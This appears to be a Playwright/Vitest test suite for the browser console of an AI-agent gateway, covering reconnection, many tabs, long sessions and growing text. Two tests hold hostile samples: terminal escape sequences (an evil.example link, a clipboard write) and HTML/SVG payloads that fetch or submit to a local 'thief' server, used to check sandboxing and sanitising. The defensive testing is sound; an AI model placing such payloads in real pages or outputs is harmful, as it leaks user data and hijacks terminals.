/** What stays true while things move: the line breaks and comes back, many tabs, two browsers, a long session, growing text. */

import { writeFile } from "node:fs/promises";
import { createServer as createHttpServer } from "node:http";
import { type AddressInfo, createServer } from "node:net";
import { join } from "node:path";
import type { Browser, Page } from "playwright-core";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { blocksPerScroll, consoleFolder, go, launchBrowser, noBrowser, playLongSession, visit } from "./support/browser.ts";
import { startGateway, type TestGateway } from "./support/gateway.ts";

function freePort(): Promise<number> {
  return new Promise((resolve) => {
    const server = createServer().listen(0, "127.0.0.1", () => {
      const address = server.address();
      server.close(() => resolve(typeof address === "object" && address !== null ? address.port : 0));
    });
  });
}

describe.skipIf(noBrowser !== "")(`the console while things move${noBrowser}`, () => {
  let gateway: TestGateway;
  let browser: Browser;

  beforeAll(async () => {
    gateway = await startGateway({ consoleFolder, port: await freePort() });
    browser = await launchBrowser();
  });
  afterAll(async () => {
    await browser?.close();
    await gateway?.close();
  });

  const read = (session: string, path: string) =>
    gateway.api("POST", `/sessions/${session}/calls`, { tool: "Read", input: { file_path: path } });
  const rowsOf = (page: Page) => page.locator(".talk-row").allTextContents();

  it("a server that went away and came back: the draft is kept and what was missed is there, once", async () => {
    await gateway.api("POST", "/sessions", { id: "line" });
    await read("line", "before.txt");
    const { context, page } = await visit(browser, gateway, { width: 1280 });
    await go(page, gateway, "/s/line");
    await page.locator("#composer").fill("half a sentence");
    await gateway.restart();
    await read("line", "after.txt");
    await page.getByText("after.txt").first().waitFor();
    expect((await rowsOf(page)).filter((text) => text.includes("before.txt"))).toHaveLength(1);
    expect((await rowsOf(page)).filter((text) => text.includes("after.txt"))).toHaveLength(1);
    expect(await page.locator("#composer").inputValue()).toBe("half a sentence");
    await context.close();
  });

  it("seven tabs of one browser all see what happens and can all ask; a second browser shows the same", async () => {
    await gateway.api("POST", "/sessions", { id: "tabs" });
    await read("tabs", "first.txt");
    const { context, page } = await visit(browser, gateway, { width: 1280 });
    const pages = [page];
    for (let index = 1; index < 7; index += 1) pages.push(await context.newPage());
    for (const one of pages) await go(one, gateway, "/s/tabs");
    const other = await visit(browser, gateway, { width: 1280 });
    await go(other.page, gateway, "/s/tabs");
    await read("tabs", "second.txt");
    for (const one of [...pages, other.page]) await one.getByText("second.txt").first().waitFor();
    const statuses = await Promise.all(
      pages.map((one) =>
        one.evaluate(
          `fetch("/api/v1/me", { headers: { "x-csrf-token": localStorage.getItem("karyi.csrf") } }).then((answer) => answer.status)`,
        ),
      ),
    );
    expect(statuses).toEqual(pages.map(() => 200));
    const calls = (one: Page) => one.evaluate<string[]>(`[...document.querySelectorAll("[data-call]")].map(({ dataset }) => dataset.call)`);
    expect(await calls(page)).toHaveLength(2);
    expect(await calls(other.page)).toEqual(await calls(page));
    await context.close();
    await other.context.close();
  });

  it("ten thousand events are few nodes, and the end is in sight", async () => {
    await gateway.api("POST", "/sessions", { id: "long" });
    const { context, page, problems } = await visit(browser, gateway, { width: 1280 });
    const total = 10_000;
    await playLongSession(page, "long", total);
    await go(page, gateway, "/s/long");
    await page.locator(".talk-scroll").getByText(`Message ${total}`, { exact: true }).waitFor();
    expect(await page.evaluate<number>(`document.querySelectorAll(".talk-scroll *").length`)).toBeLessThanOrEqual(400);
    await page.locator(".talk-scroll").hover();
    await page.mouse.wheel(0, -100_000_000);
    await page.locator(".talk-scroll").getByText("Message 5", { exact: true }).waitFor();
    expect(await page.evaluate<number>(`document.querySelectorAll(".talk-scroll *").length`)).toBeLessThanOrEqual(400);
    // The wheel goes on for a while, and would take a jump back.
    await expect.poll(() => page.evaluate<number>(`document.querySelector(".talk-scroll").scrollTop`)).toBe(0);
    // Any of them is found by its words, and a reload comes back to the same place.
    await page.keyboard.press("/");
    await page.getByLabel("Search in this conversation").fill("message 4320");
    await page.locator(".talk-row.found").getByText("Message 4320", { exact: true }).waitFor();
    await page.keyboard.press("Escape");
    const top = () =>
      page.evaluate<string>(`(() => { const top = document.querySelector(".talk-scroll").getBoundingClientRect().top;
      return [...document.querySelectorAll(".talk-row")].sort((a, b) => a.dataset.index - b.dataset.index)
        .find((row) => row.getBoundingClientRect().bottom > top + 1)?.textContent; })()`);
    const before = await top();
    await page.reload();
    await expect.poll(top).toBe(before);
    expect(problems).toEqual([]);
    await context.close();
  });

  it("scrolling a session of ten thousand events runs about as much script as one of two hundred", async () => {
    const { context, page } = await visit(browser, gateway, { width: 1280 });
    const blocks = new Map<number, number>();
    for (const total of [200, 10_000]) {
      await gateway.api("POST", "/sessions", { id: `cost-${total}` });
      await playLongSession(page, `cost-${total}`, total);
      await go(page, gateway, `/s/cost-${total}`);
      await page.getByText(`Message ${total}`, { exact: true }).waitFor();
      blocks.set(total, await blocksPerScroll(page, 8));
    }
    expect(blocks.get(200)).toBeGreaterThan(0);
    // A walk over all events in every frame would run at least 10,000 blocks more.
    expect(blocks.get(10_000)).toBeLessThanOrEqual(3 * (blocks.get(200) ?? 0));
    await context.close();
  });

  it("a 5 MB output is few lines until one opens it, and its terminal sequences are dropped", async () => {
    await gateway.api("POST", "/sessions", { id: "big" });
    const sequences =
      "\\033]0;title\\007\\033]8;;https://evil.example\\007link\\033]8;;\\007\\033]52;c;ZXZpbA==\\007\\033[2J\\033[H\\033[31mred\\033[0m\\n";
    await writeFile(
      join(gateway.workspace, "big.sh"),
      `printf '${sequences}'\nseq -f 'line %07g of a long output, padded to some length' 1 100000\n`,
    );
    const { body: asked } = await gateway.api("POST", "/sessions/big/calls", { tool: "Bash", input: { command: "cat big.sh; sh big.sh" } });
    if (asked.approval_id !== undefined) {
      const { body: card } = await gateway.api("GET", `/approvals/${asked.approval_id}`);
      await gateway.api("POST", `/approvals/${card.id}/answer`, { answer: "once", nonce: card.nonce });
    }
    const { context, page, problems } = await visit(browser, gateway, { width: 1280 });
    await go(page, gateway, "/s/big");
    await page.locator(".call-row .out").first().waitFor();
    const nodes = () => page.evaluate<number>(`document.querySelectorAll(".talk-scroll *").length`);
    expect(await nodes()).toBeLessThanOrEqual(400);
    await page.locator("button.call").first().click();
    await page.getByText("MB hidden").waitFor();
    await page.getByRole("button", { name: "Open all" }).click();
    await page.getByText("line 0000500 of").waitFor();
    const shown = (await page.locator(".talk-scroll").textContent()) ?? "";
    expect([shown.includes("linkred"), await page.locator(".out .ansi-red").first().textContent()]).toEqual([true, "red"]);
    expect(["\u001b", "\u0007", "\u009b"].filter((sign) => shown.includes(sign))).toEqual([]);
    expect([await page.locator(".talk-scroll a").count(), await page.title()]).toEqual([0, expect.not.stringContaining("title")]);
    // The control: the call did print them.
    const { body: calls } = await gateway.api("GET", "/sessions/big/calls");
    const bash = calls.calls.find(({ tool }: { tool: string }) => tool === "Bash");
    const result = (await gateway.api("GET", `/sessions/big/calls/${bash.call_id}`)).body;
    expect(result.output).toContain("\u001b]52;");
    await page.getByRole("button", { name: "Next" }).click();
    await page.getByText("line 0001500 of").waitFor();
    expect(await nodes()).toBeLessThanOrEqual(400);
    expect(problems).toEqual([]);
    await context.close();
  });

  it("nothing shifts while a text grows", async () => {
    const script = join(gateway.home, "run", "grows.json");
    const text = Array.from({ length: 40 }, (_, index) => `Line ${index} of a text that grows word by word.`).join("\n\n");
    await writeFile(
      script,
      JSON.stringify([
        { text, delay_ms: 2500, calls: [{ name: "Read", input: { file_path: "end.txt" } }] },
        { text: "End.", delay_ms: 60_000 },
      ]),
    );
    await gateway.api("POST", "/sessions", { id: "grows" });
    const { context, page } = await visit(browser, gateway, { width: 1280 });
    await go(page, gateway, "/s/grows");
    await gateway.api("POST", "/sessions/grows/runs", { prompt: "Write", model: `scripted/${script}` });
    await page.getByText("Line 0 of").waitFor();
    await page.evaluate(`globalThis.shifts = []; new PerformanceObserver((list) => {
      for (const { value, sources } of list.getEntries())
        globalThis.shifts.push(value.toFixed(4) + " " + sources.map(({ node }) => node?.className ?? "").join(" "));
    }).observe({ type: "layout-shift" })`);
    await page.getByText("Line 39 of").waitFor();
    expect(await page.evaluate(`globalThis.shifts`)).toEqual([]);
    await context.close();
  });

  it("a page or picture made by an agent gets nothing out; the same page without both defences does", async () => {
    await gateway.api("POST", "/sessions", { id: "pages" });
    const arrived: string[] = [];
    const thief = createHttpServer((request, answer) => {
      arrived.push(request.url ?? "");
      answer.end();
    });
    const theirs = await new Promise<string>((resolve) => {
      thief.listen(0, "127.0.0.1", () => resolve(`http://127.0.0.1:${(thief.address() as AddressInfo).port}`));
    });
    const form = `<form action="${theirs}/form"></form><script>document.forms[0].submit()</script>`;
    const evil = `<script>fetch("${theirs}/script")</script><img src="${theirs}/image" onerror="fetch('${theirs}/handler')"><style>body{background:url(${theirs}/style)}</style>`;
    const svg = `<svg xmlns="http://www.w3.org/2000/svg"><script>fetch("${theirs}/svg")</script><image href="${theirs}/picture"/></svg>`;
    for (const [id, content] of [
      ["html", evil],
      ["form", form],
      ["svg", svg],
    ] as const)
      await gateway.api("POST", "/sessions/pages/calls", {
        tool: "CreateArtifact",
        input: { id: `bad-${id}`, title: id, content, content_type: id === "svg" ? "svg" : "html" },
      });
    const { context, page } = await visit(browser, gateway, { width: 1280 });
    for (const id of ["html", "form", "svg"]) {
      await go(page, gateway, `/s/pages/artifacts/bad-${id}`);
      const frame = page.locator("iframe.artifact-frame");
      await frame.waitFor();
      await expect.poll(() => page.frames().length).toBe(2);
      await page.frames()[1]?.waitForLoadState("load");
      expect(await frame.getAttribute("sandbox")).toBe("");
    }
    expect(arrived).toEqual([]);
    // The control: without frame and policy the same texts do all of it.
    for (const body of [evil, form, svg]) {
      const bare = await context.newPage();
      await bare.route("**/bare.html", (route) => route.fulfill({ contentType: "text/html", body }));
      await bare.goto(`${theirs}/bare.html`).catch(() => {});
    }
    await expect
      .poll(() => arrived.map((path) => path.replace("?", "")))
      .toEqual(expect.arrayContaining(["/image", "/handler", "/script", "/style", "/form", "/svg", "/picture"]));
    thief.close();
    await context.close();
  });
});
